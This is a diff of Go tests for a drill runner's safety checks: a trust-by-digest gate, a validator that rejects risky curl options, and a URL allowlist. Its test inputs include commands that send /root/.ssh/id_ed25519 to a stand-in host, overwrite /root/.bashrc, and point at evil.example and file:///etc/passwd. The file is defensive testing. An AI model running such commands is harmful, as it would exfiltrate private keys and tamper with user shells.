@@ -10,7 +10,8 @@ import (
 
 // hereDrill is a drill whose proof of recovery runs argv on the operator's machine.
 func hereDrill(id, argv string) string {
-	return strings.NewReplacer("ID", id, "ARGV", argv).Replace(`metadata: {id: ID, title: x, severity: P2, owner: us, runbook: x}
+	return strings.NewReplacer("ID", id, "ARGV", argv).
+		Replace(`metadata: {id: ID, title: x, severity: P2, owner: us, runbook: x}
 target: {role: node, maxNodes: 1}
 guards: {ttl: 2m}
 faults: [{id: motd, kind: net-block, params: {to: ["${api_address}"], ports: ["${api_port}"], verdict: drop}}]
@@ -33,8 +34,8 @@ evidence: [x]
 `)
 }
 
-// TestWhoseDrill: programs of a drill run on the operator's machine only where nobody but root and the operator can have
-// written its file, or where the operator says by its digest that he read it.
+// TestWhoseDrill: programs of a drill run on the operator's machine only where no one but root and the operator can
+// have written its file, or where the operator states by its digest that he read it.
 func TestWhoseDrill(t *testing.T) {
 	text := hereDrill("ours", `curl, "-s", "http://192.0.2.1/"`)
 	for name, c := range map[string]struct {
@@ -85,13 +86,15 @@ func TestWhoseDrill(t *testing.T) {
 					continue
 				}
 				want := "--trust " + s.File + "@" + s.Source.SHA256
-				if err == nil || !strings.Contains(err.Error(), c.says) || !strings.Contains(err.Error(), "it runs curl on this machine") || !strings.Contains(err.Error(), want) {
+				if err == nil || !strings.Contains(err.Error(), c.says) ||
+					!strings.Contains(err.Error(), "it runs curl on this machine") || !strings.Contains(err.Error(), want) {
 					t.Errorf("%v, want %q", err, c.says)
 				}
 				if err := s.MayRunHere([]string{s.File + "@" + s.Source.SHA256}); err != nil {
 					t.Errorf("trusted: %v", err)
 				}
-				if err := s.MayRunHere([]string{s.File + "@00"}); err == nil || !strings.Contains(err.Error(), "not the text that --trust names") {
+				if err := s.MayRunHere([]string{s.File + "@00"}); err == nil ||
+					!strings.Contains(err.Error(), "not the text that --trust names") {
 					t.Errorf("another text was trusted: %v", err)
 				}
 				if err := s.MayRunHere([]string{"other.yaml@" + s.Source.SHA256}); err == nil {
@@ -102,7 +105,7 @@ func TestWhoseDrill(t *testing.T) {
 	}
 	s, err := Parse("ours.yaml", []byte(text))
 	if err != nil || s.MayRunHere(nil) == nil {
-		t.Errorf("text of nobody knows where may run programs here: %v", err)
+		t.Errorf("text of unknown origin may run programs here: %v", err)
 	}
 	all, err := Find(fstest.MapFS{"ours.yaml": {Data: []byte(text)}}, "ours")
 	if err != nil || all[0].MayRunHere(nil) != nil {
@@ -114,13 +117,14 @@ func TestWhoseDrill(t *testing.T) {
 func TestLooksFromHere(t *testing.T) {
 	for argv, want := range map[string]string{
 		`curl, "-s", "-o", /dev/null, "-m", "3", "-w", "http %{http_code}", "--cacert", "${operator_ca}", "${edge_api_url}/healthz"`: "",
-		`curl, "-sk", "https://192.0.2.1/"`:                                           "",
-		`nc, "-z", 192.0.2.1, "22"`:                                                   "",
-		`curl, "-T", /root/.ssh/id_ed25519, "http://192.0.2.66/"`:                     "option -T may do more than look",
-		`curl, "-sT", /root/.ssh/id_ed25519, "http://192.0.2.66/"`:                    "option -sT may do more than look",
-		`curl, "--upload-file=x", "http://192.0.2.66/"`:                               "option --upload-file=x may do more than look",
-		`curl, "-d", "@/root/.ssh/id_ed25519", "http://192.0.2.66/"`:                  "option -d @/root/.ssh/id_ed25519 reads a file",
-		`curl, "-F", "x=@/root/.ssh/id_ed25519", "http://192.0.2.66/"`:                "option -F may do more than look",
+		`curl, "-sk", "https://192.0.2.1/"`:                        "",
+		`nc, "-z", 192.0.2.1, "22"`:                                "",
+		`curl, "-T", /root/.ssh/id_ed25519, "http://192.0.2.66/"`:  "option -T may do more than look",
+		`curl, "-sT", /root/.ssh/id_ed25519, "http://192.0.2.66/"`: "option -sT may do more than look",
+		`curl, "--upload-file=x", "http://192.0.2.66/"`: "option --upload-file=x may do more " +
+			"than look",
+		`curl, "-d", "@/root/.ssh/id_ed25519", "http://192.0.2.66/"`:   "option -d @/root/.ssh/id_ed25519 reads a file",
+		`curl, "-F", "x=@/root/.ssh/id_ed25519", "http://192.0.2.66/"`: "option -F may do more than look",
 		`curl, "-K", /tmp/x`:                                                          "option -K may do more than look",
 		`curl, "-o", /root/.bashrc, "http://192.0.2.66/"`:                             "writes a file",
 		`curl, "-w", "%output{/root/.bashrc}x", "http://192.0.2.66/"`:                 "writes a file",
@@ -138,7 +142,7 @@ func TestLooksFromHere(t *testing.T) {
 		`cat, "/run/gpuaasctl-${run}-queue-header"`:                                   "only curl may read it",
 	} {
 		_, err := Parse("ours.yaml", []byte(hereDrill("ours", argv)))
-		if want == "" && err != nil || want != "" && (err == nil || !strings.Contains(err.Error(), want)) {
+		if (want == "" && err != nil) || (want != "" && (err == nil || !strings.Contains(err.Error(), want))) {
 			t.Errorf("[%s]: %v, want %q", argv, err, want)
 		}
 	}
@@ -151,7 +155,8 @@ func TestWhoseAPI(t *testing.T) {
 		"http://127.0.0.1:8080": true, "http://127.0.0.1:8080/": true, "https://127.8.8.8": true, "http://[::1]:8080": true,
 		profiles: true, profiles + "/": true,
 		"http://evil.example:9": false, "http": false, "http://localhost:8080": false, "http://127.0.0.1.evil.example": false,
-		"http://127.0.0.1:8080@evil.example": false, "http://127.0.0.1:8080/x": false, profiles + ".evil.example": false, "": false,
+		"http://127.0.0.1:8080@evil.example": false, "http://127.0.0.1:8080/x": false, profiles + ".evil.example": false,
+		"": false,
 		"http://127.0.0.1:8080 http://evil.example": false, "http://127.0.0.1\n": false, "file:///etc/passwd": false,
 	} {
 		if got := ownAPI(base, profiles); got != want {
